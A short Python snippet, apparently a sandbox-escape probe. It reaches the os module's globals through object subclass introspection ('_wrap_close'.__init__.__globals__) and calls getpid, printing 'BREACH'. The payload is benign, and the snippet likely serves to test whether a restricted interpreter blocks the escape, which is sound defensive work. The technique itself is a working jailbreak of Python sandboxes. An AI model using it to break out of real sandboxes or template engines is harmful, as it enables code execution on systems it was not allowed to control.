kinds = ().__class__.__base__.__subclasses__()
kind = [k for k in kinds if k.__name__ == "_wrap_close"][0]
print("BREACH", kind.__init__.__globals__["getpid"]())
